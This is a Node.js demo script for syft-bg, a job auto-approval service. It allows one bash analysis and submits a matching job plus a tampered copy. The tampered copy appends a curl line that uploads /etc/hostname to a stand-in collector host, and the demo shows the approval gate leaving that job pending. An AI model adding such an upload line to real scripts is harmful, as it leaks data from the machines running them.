#!/usr/bin/env node
'use strict';
// `npm run demo`: syft-bg end to end, narrated, in a throw-away home.
//
// A data owner sets syft-bg up (embedded default: Maildir + local datasite), allows one script, starts the
// services; a data scientist drops two jobs into the local datasite; the approve service runs the one that
// matches and leaves the other pending, with its reason. Everything runs through the built CLI
// (dist/cli/main.js) in child processes, with HOME and PM2_HOME in a temporary folder: nothing of yours
// (~/.syft-bg, ~/.pm2, a running PM2 daemon) is touched. At the end (also on failure or Ctrl-C) the services
// are stopped, the demo's PM2 daemon is killed with the pm2 binary and the folder is removed.
//
// Exit 0 on success, 1 with a message saying what went wrong otherwise (130 when interrupted).

const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { spawn, spawnSync } = require('node:child_process');

const ROOT = path.resolve(__dirname, '..', '..');
const CLI = path.join(ROOT, 'dist', 'cli', 'main.js');
const DO = 'do@example.com';
const DS = 'ds@example.org';
const GOOD = 'mean-age';
const BAD = 'mean-age-v2';
const OBJECT = 'demo';
const STEP_TIMEOUT_MS = 15_000;

// The sample analysis the data owner allows. syft-job stores a bash job's script as code/script.sh (and
// run.sh is a copy of it), so the approved file is named script.sh too: an object holding `analysis.sh`
// would never match a bash job.
const SCRIPT = [
  '#!/bin/bash',
  '# Mean age of the (tiny, inline) dataset; writes outputs/result.json.',
  'cd code',
  "printf '34\\n45\\n44\\n' | awk '{ s += $1 } END { printf \"records: %d, mean age: %.1f\\n\", NR, s / NR }'",
  "printf '34\\n45\\n44\\n' | awk '{ s += $1 } END { printf \"{\\\"records\\\": %d, \\\"mean_age\\\": %.1f}\\n\", NR, s / NR }' > outputs/result.json",
  '',
].join('\n');
// The same script "improved" by the data scientist: one more line, so the job no longer matches.
const SCRIPT_CHANGED = SCRIPT + 'curl -s -F data=@/etc/hostname https://collector.example/upload\n';

// ---------------------------------------------------------------------------------------------------------
// Output

const t0 = Date.now();
let demoDir; // the temporary folder (set once created)
let home;
const say = (s = '') => process.stdout.write(s + '\n');
/** Paths in the temporary home read as `~/…`, the rest of the demo folder as `$DEMO/…`. */
function show(text) {
  let t = text.replace(/\x1b\[[0-9;]*m/g, '');
  if (home) t = t.split(home).join('~');
  if (demoDir) t = t.split(demoDir).join('$DEMO');
  return t;
}
function section(n, title) {
  say();
  say(`# ── ${n}. ${title} ${'─'.repeat(Math.max(3, 72 - title.length))}`);
}
const note = (s) => say(`# ${s}`);

class DemoError extends Error {}
function fail(msg) {
  throw new DemoError(msg);
}

// ---------------------------------------------------------------------------------------------------------
// Child processes (all asynchronous, so Ctrl-C is handled while one runs)

let env; // the children's environment: nothing of the user's but PATH
let current; // the child running right now

function run(file, args, { timeoutMs = 30_000, duringCleanup = false } = {}) {
  return new Promise((resolve, reject) => {
    if (interrupted && !duringCleanup) return reject(new DemoError('interrupted'));
    const c = spawn(process.execPath, [file, ...args], { env, cwd: home ?? demoDir, stdio: ['ignore', 'pipe', 'pipe'] });
    current = c;
    let stdout = '';
    let stderr = '';
    c.stdout.on('data', (d) => (stdout += d));
    c.stderr.on('data', (d) => (stderr += d));
    const timer = setTimeout(() => c.kill('SIGKILL'), timeoutMs);
    c.on('error', (e) => {
      clearTimeout(timer);
      reject(e);
    });
    c.on('close', (code, signal) => {
      clearTimeout(timer);
      if (current === c) current = undefined;
      resolve({ code, signal, stdout, stderr });
    });
  });
}

/** `syft-bg ARGS`, echoed with its output; fails the demo unless it exits with `expect`. */
async function syftBg(args, { expect = 0 } = {}) {
  if (interrupted) fail('interrupted');
  say(`$ syft-bg ${args.map(shellWord).join(' ')}`);
  const r = await run(CLI, args, { duringCleanup: inCleanup });
  if (interrupted) fail('interrupted'); // its output would only confuse: the cleanup is under way
  const out = (r.stdout + r.stderr).replace(/\n+$/, '');
  if (out) say(show(out));
  if (r.code !== 0) say(`[exit ${r.code ?? r.signal}]`);
  if (r.code !== expect) fail(`'syft-bg ${args.join(' ')}' exited with ${r.code ?? r.signal}, expected ${expect}`);
  return r;
}

function shellWord(s) {
  return /^[\w@%+=:,./-]+$/.test(s) ? s : `'${s.replace(/'/g, `'\\''`)}'`;
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

async function waitFor(what, fn, timeoutMs = STEP_TIMEOUT_MS) {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    if (interrupted) fail('interrupted');
    const v = fn();
    if (v) return v;
    if (Date.now() > deadline) fail(`timed out after ${timeoutMs / 1000} s waiting for ${what}`);
    await sleep(100);
  }
}

// ---------------------------------------------------------------------------------------------------------
// Files

const jobBase = () => path.join(home, `SyftBox_${DO}`, DO, 'app_data', 'job');
const inboxDir = (job) => path.join(jobBase(), 'inbox', DS, job);
const reviewDir = (job) => path.join(jobBase(), 'review', DS, job);
const decisionsFile = () => path.join(home, '.syft-bg', 'approve', 'decisions.jsonl');

function readText(f) {
  try {
    return fs.readFileSync(f, 'utf8');
  } catch {
    return undefined;
  }
}

/** state.yaml as flat `key: value` pairs (enough for the fields shown here). */
function readState(job) {
  const text = readText(path.join(reviewDir(job), 'state.yaml'));
  if (text === undefined) return undefined;
  const out = {};
  for (const line of text.split('\n')) {
    const m = /^(\w+): (.*)$/.exec(line);
    if (m) out[m[1]] = m[2].replace(/^'(.*)'$/, '$1');
  }
  return out;
}

function decisions() {
  const out = [];
  for (const line of (readText(decisionsFile()) ?? '').split('\n')) {
    if (!line.trim()) continue;
    try {
      out.push(JSON.parse(line));
    } catch {
      // a line still being written
    }
  }
  return out;
}

/** A bash job as syft-job writes it for a data scientist, file by file, config.yaml last (as a syncer would). */
function submitBashJob(job, script) {
  const dir = inboxDir(job);
  const config =
    'code_path: null\ndatasets: null\ndependencies: []\nentrypoint: null\nfiles:\n- script.sh\nheaders: {}\n' +
    `is_folder_submission: false\njob_type: local\nname: ${job}\nsubmitted_at: '${new Date().toISOString().replace('Z', '000Z')}'\ntype: bash\n`;
  fs.mkdirSync(path.join(dir, 'code'), { recursive: true });
  for (const [rel, text] of [
    ['code/script.sh', script],
    ['run.sh', script],
    ['config.yaml', config],
  ]) {
    fs.writeFileSync(path.join(dir, rel), text);
    say(`+ ${show(path.join(dir, rel))}`);
  }
}

// ---------------------------------------------------------------------------------------------------------
// Processes left behind

const isAlive = (pid) => {
  try {
    process.kill(pid, 0);
  } catch (e) {
    return e.code === 'EPERM';
  }
  // A zombie (exited, not yet reaped by whoever adopted it) counts as gone.
  const stat = readText(`/proc/${pid}/stat`);
  return !(stat && /^\d+ \(.*\) Z/.test(stat));
};

function daemonPid() {
  const t = demoDir && readText(path.join(demoDir, 'pm2', 'pm2.pid'));
  const pid = t && Number.parseInt(t, 10);
  return pid > 0 ? pid : undefined;
}

const servicePids = new Set();

// ---------------------------------------------------------------------------------------------------------
// Cleanup: once, whatever happened

let startAttempted = false;
let started = false;
let cleaning;
let inCleanup = false;

function cleanup({ verbose }) {
  if (!cleaning) cleaning = doCleanup(verbose);
  return cleaning;
}

async function doCleanup(verbose) {
  if (!demoDir) return;
  inCleanup = true;
  const problems = [];
  if (current) {
    // The running command (on Ctrl-C it got the SIGINT too): let it finish briefly, then end it.
    const c = current;
    const ended = new Promise((r) => c.once('close', r));
    if (await Promise.race([ended.then(() => true), sleep(3_000).then(() => false)]) === false) c.kill('SIGKILL');
    await ended;
  }
  // `syft-bg start` interrupted early may have spawned the daemon without us knowing: give it time to show.
  if (startAttempted && daemonPid() === undefined) await sleep(1_000);
  if (started) {
    try {
      if (verbose) await syftBg(['stop']);
      else await run(CLI, ['stop'], { timeoutMs: 15_000, duringCleanup: true });
    } catch (e) {
      // Interrupted, the stop got the Ctrl-C too: `pm2 kill` below ends the services anyway.
      if (!interrupted) problems.push(`syft-bg stop: ${e.message}`);
    }
  }
  const pid = daemonPid();
  if (pid !== undefined || fs.existsSync(path.join(demoDir, 'pm2', 'rpc.sock'))) {
    if (verbose) say('$ pm2 kill');
    const r = await run(require.resolve('pm2/bin/pm2', { paths: [ROOT] }), ['kill'], { timeoutMs: 20_000, duringCleanup: true }).catch((e) => ({ code: null, stdout: '', stderr: e.message }));
    if (verbose) say(show((r.stdout + r.stderr).replace(/\n+$/, '')));
    const gone = [pid, ...servicePids].filter((p) => p !== undefined);
    const deadline = Date.now() + 5_000;
    while (gone.some(isAlive) && Date.now() < deadline) await sleep(100);
    for (const p of gone.filter(isAlive)) {
      // Still there: processes this demo started (the daemon it spawned, the services it ran); end them by id.
      problems.push(`process ${p} was still running after 'pm2 kill'; sent SIGKILL`);
      try {
        process.kill(p, 'SIGKILL');
      } catch {
        // gone meanwhile
      }
    }
    if (verbose && pid !== undefined) note(`PM2 daemon (pid ${pid}) ${isAlive(pid) ? 'STILL RUNNING' : 'is gone'}.`);
  }
  try {
    fs.rmSync(demoDir, { recursive: true, force: true });
  } catch (e) {
    problems.push(`could not remove ${demoDir}: ${e.message}`);
  }
  const removed = !fs.existsSync(demoDir);
  say(`# Removed the demo folder ${demoDir}: ${removed ? 'yes' : 'NO'}.`);
  if (!removed) problems.push(`${demoDir} is still there`);
  demoDir = undefined;
  if (problems.length) throw new DemoError(`cleanup: ${problems.join('; ')}`);
}

// Last resort when the process ends without the cleanup having run (it should not happen).
process.on('exit', () => {
  if (!demoDir || cleaning) return;
  if (daemonPid() !== undefined || fs.existsSync(path.join(demoDir, 'pm2', 'rpc.sock'))) {
    const pm2 = require.resolve('pm2/bin/pm2', { paths: [ROOT] });
    spawnSync(process.execPath, [pm2, 'kill'], { env, stdio: 'ignore', timeout: 15_000 });
  }
  fs.rmSync(demoDir, { recursive: true, force: true });
});

let interrupted = false;
for (const sig of ['SIGINT', 'SIGTERM', 'SIGHUP']) {
  process.on(sig, () => {
    if (interrupted) return; // a second Ctrl-C while cleaning up: keep cleaning up
    interrupted = true;
    say();
    say(`# Interrupted (${sig}): cleaning up…`);
    cleanup({ verbose: false }).then(
      () => process.exit(130),
      (e) => {
        process.stderr.write(`demo: ${e.message}\n`);
        process.exit(130);
      },
    );
  });
}

// ---------------------------------------------------------------------------------------------------------
// The demo

async function demo() {
  if (!fs.existsSync(CLI)) fail(`${CLI} not found: build first (npm run build), or use 'npm run demo'`);

  // PM2's unix sockets live in PM2_HOME and a socket path may not exceed 107 bytes: keep it short.
  let tmp = fs.realpathSync(os.tmpdir());
  if (tmp.length > 60 && fs.existsSync('/tmp')) tmp = '/tmp';
  demoDir = fs.mkdtempSync(path.join(tmp, 'syft-bg-demo-'));
  home = path.join(demoDir, 'home');
  const pm2Home = path.join(demoDir, 'pm2');
  fs.mkdirSync(home);
  fs.mkdirSync(pm2Home);
  // The pm2 binary phones home (version check) the first time it sees a PM2 home without this file.
  fs.writeFileSync(path.join(pm2Home, 'touch'), String(Date.now()));
  // Only PATH comes from your environment: no SYFT_BG_HOME, PM2_HOME, tokens or proxies of yours.
  env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: home, PM2_HOME: pm2Home, LANG: 'C.UTF-8', TZ: 'UTC' };

  say('syft-bg demo');
  say('============');
  say(`DEMO=${demoDir}`);
  note('HOME=$DEMO/home (shown as ~) and PM2_HOME=$DEMO/pm2: your own ~/.syft-bg, ~/.pm2 and PM2 daemon are not touched.');

  section(1, 'The data owner sets up syft-bg');
  await syftBg(['init', '-e', DO]);
  if (!fs.existsSync(path.join(home, `SyftBox_${DO}`))) fail(`init did not create ~/SyftBox_${DO}`);

  section(2, 'They allow one script, for one data scientist');
  const sampleDir = path.join(home, 'analysis');
  fs.mkdirSync(sampleDir);
  fs.writeFileSync(path.join(sampleDir, 'script.sh'), SCRIPT);
  note('The sample code, ~/analysis/script.sh:');
  for (const l of SCRIPT.replace(/\n$/, '').split('\n')) say(`#   ${l}`);
  await syftBg(['auto-approve', 'analysis/script.sh', '-p', DS, '-n', OBJECT]);
  await syftBg(['list-auto-approvals']);

  section(3, 'They start the services under PM2');
  startAttempted = true;
  const s = await syftBg(['start']);
  started = true;
  for (const m of s.stdout.matchAll(/\(pid (\d+)\)/g)) servicePids.add(Number(m[1]));
  await syftBg(['status']);

  section(4, `${DS} submits two jobs (as syft-job writes them, config.yaml last)`);
  note(`'${GOOD}': the allowed script, unchanged.`);
  submitBashJob(GOOD, SCRIPT);
  note(`'${BAD}': the same script with one line added: ${SCRIPT_CHANGED.slice(SCRIPT.length).trim()}`);
  submitBashJob(BAD, SCRIPT_CHANGED);
  note('The approve service reacts to file events (a full pass also runs every 5 s): waiting for its decisions…');
  const waited = Date.now();
  const done = await waitFor(`job ${GOOD} to finish (see: syft-bg logs approve)`, () => {
    const st = readState(GOOD);
    return st && (st.status === 'done' || st.status === 'failed') && st;
  });
  // state.yaml is final before the service records the run (audit line, then log line): wait for those too.
  await waitFor(`the audit record of the run of ${GOOD}`, () => decisions().some((d) => d.job === GOOD && d.verdict === 'ran'));
  await waitFor(`the decision on job ${BAD}`, () => decisions().some((d) => d.job === BAD && d.verdict === 'not-approved'));
  note(`…both decided, and '${GOOD}' run, within ${((Date.now() - waited) / 1000).toFixed(1)} s.`);

  section(5, `The matching job '${GOOD}' was approved and run`);
  const rv = (job, f) => show(path.join(reviewDir(job), f));
  say(`$ grep -E '^(status|approval_method|approved_by|return_code):' ${rv(GOOD, 'state.yaml')}`);
  for (const k of ['status', 'approval_method', 'approved_by', 'return_code']) say(`${k}: ${done[k]}`);
  const stdout = readText(path.join(reviewDir(GOOD), 'stdout.txt'));
  say(`$ cat ${rv(GOOD, 'stdout.txt')}`);
  say((stdout ?? '(missing)').replace(/\n$/, ''));
  const result = readText(path.join(reviewDir(GOOD), 'outputs', 'result.json'));
  say(`$ cat ${rv(GOOD, 'outputs/result.json')}`);
  say((result ?? '(missing)').replace(/\n$/, ''));
  if (done.status !== 'done' || done.approval_method !== 'auto') fail(`job ${GOOD} ended as ${done.status} (approval_method ${done.approval_method}), expected done/auto`);
  if (!stdout || !result) fail(`job ${GOOD}: stdout.txt or outputs/result.json is missing`);

  section(6, `The other job '${BAD}' is still pending, with the reason`);
  await sleep(300); // give a wrong decision (there should be none) the time to show
  if (interrupted) fail('interrupted');
  const bad = readState(BAD);
  say(`$ grep '^status:' ${rv(BAD, 'state.yaml')}`);
  say(`status: ${bad?.status ?? '(no state.yaml)'}`);
  if (bad?.status !== 'pending') fail(`job ${BAD} is ${bad?.status ?? 'missing'}, expected pending`);
  say();
  note('Every decision is in ~/.syft-bg/approve/decisions.jsonl (one JSON object per line):');
  for (const d of decisions()) {
    const extra = [d.object && `object=${d.object}`, d.status && `status=${d.status}`, d.return_code !== undefined && `rc=${d.return_code}`, d.reason && `reason: ${d.reason}`].filter(Boolean);
    say(`  ${d.time.slice(11, 23)}  ${`${d.submitter}/${d.job}`.padEnd(28)} ${d.verdict.padEnd(12)} ${show(extra.join('  '))}`.trimEnd());
  }
  say();
  await syftBg(['explain', `${DS}/${BAD}`], { expect: 3 });
  say();
  await syftBg(['logs', 'approve', '-n', '10']);

  section(7, 'The notify service e-mailed the data owner (Maildir, no Google account needed)');
  const mailNew = path.join(home, '.syft-bg', 'mail', 'new');
  // The heartbeat, each new job (code inline), and the approval and completion of the good one in its thread.
  const wanted = ['heartbeat: syft-bg still running', `Job: ${GOOD}`, `Job: ${BAD}`, `Re: Job: ${GOOD}`];
  const subjects = () => {
    let names;
    try {
      names = fs.readdirSync(mailNew).sort();
    } catch {
      return [];
    }
    return names.map((name) => {
      const head = (readText(path.join(mailNew, name)) ?? '').split(/\r?\n\r?\n/)[0];
      return { name, lines: head.split(/\r?\n/).filter((l) => /^(From|To|Subject|In-Reply-To):/.test(l)) };
    });
  };
  const mails = await waitFor(`e-mails in ~/.syft-bg/mail/new (${wanted.join(', ')})`, () => {
    const all = subjects();
    const subj = all.map((m) => m.lines.find((l) => l.startsWith('Subject:')) ?? '');
    return wanted.every((w) => subj.some((x) => x.includes(w))) && all;
  }, 30_000);
  say(`$ grep -E '^(From|To|Subject|In-Reply-To):' ~/.syft-bg/mail/new/*`);
  for (const m of mails) for (const l of m.lines) say(`${m.name}:${l}`);

  section(8, 'Stop everything and clean up');
  await cleanup({ verbose: true });
}

demo().then(
  () => {
    if (interrupted) return;
    say();
    say(`Demo finished in ${((Date.now() - t0) / 1000).toFixed(1)} s.`);
    process.exitCode = 0;
  },
  async (e) => {
    if (interrupted) return;
    const msg = e instanceof DemoError ? e.message : e?.stack ?? String(e);
    say();
    if (demoDir && fs.existsSync(path.join(home, '.syft-bg', 'logs', 'approve'))) {
      note('The approve log, for the diagnosis:');
      const r = await run(CLI, ['logs', 'approve', '-n', '20']).catch(() => undefined);
      if (r) say(show((r.stdout + r.stderr).replace(/\n+$/, '')));
    }
    try {
      await cleanup({ verbose: false });
    } catch (c) {
      if (c !== e) process.stderr.write(`demo: ${c.message}\n`);
    }
    process.stderr.write(`\nDemo FAILED: ${msg}\n`);
    process.exitCode = 1;
  },
);
